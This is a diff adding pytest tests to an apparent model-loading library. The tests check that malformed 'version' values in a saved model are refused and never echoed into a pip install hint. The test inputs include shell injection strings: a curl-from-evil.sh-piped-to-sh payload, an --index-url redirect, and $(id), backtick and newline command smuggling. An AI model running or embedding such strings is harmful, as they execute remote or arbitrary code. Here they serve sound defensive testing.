@@ -120,6 +120,41 @@ def test_so_it_does_if_it_has_other_entries_or_other_packing(method: int) -> Non
         loads(body + len(comment).to_bytes(2, "little") + comment)
 
 
+@pytest.mark.parametrize(
+    "version",
+    [
+        "1'; curl evil.sh | sh #",
+        "1 --index-url=http://evil",
+        "1$(id)",
+        "1`id`",
+        "1\nid",
+        "1\n",
+        "",
+        "evil",
+        "٣.1",
+        "1." + "0" * 50,
+        None,
+        ["1.0"],
+    ],
+)
+def test_a_version_that_is_no_plain_one_is_not_told(version: Any) -> None:
+    blob = of_a_later_version(versions={"automl-tabular": version})
+    with pytest.raises(UnsafeModel, match=r"and 5\. It needs a newer version of automl$"):
+        loads(blob)
+
+
+@pytest.mark.parametrize("version", ["7", "7.8.9", "0.12.3rc1", "1.0.post2", "2026.11.30.dev0"])
+def test_a_plain_version_is_told(version: str) -> None:
+    blob = of_a_later_version(versions={"automl-tabular": version})
+    with pytest.raises(UnsafeModel, match=rf"pip install 'automl-tabular>={version}'$"):
+        loads(blob)
+
+
+def test_a_long_format_is_cut() -> None:
+    with pytest.raises(UnsafeModel, match=r"has format '9{19}; this version"):
+        loads(of_a_later_version(format="9" * 500))
+
+
 @pytest.mark.parametrize("number", [3, 0, -1, "5", None, True, 5.5, [5]])
 def test_other_formats_are_refused_without_advice(number: Any) -> None:
     with pytest.raises(UnsafeModel, match=r"reads formats 4 and 5$"):
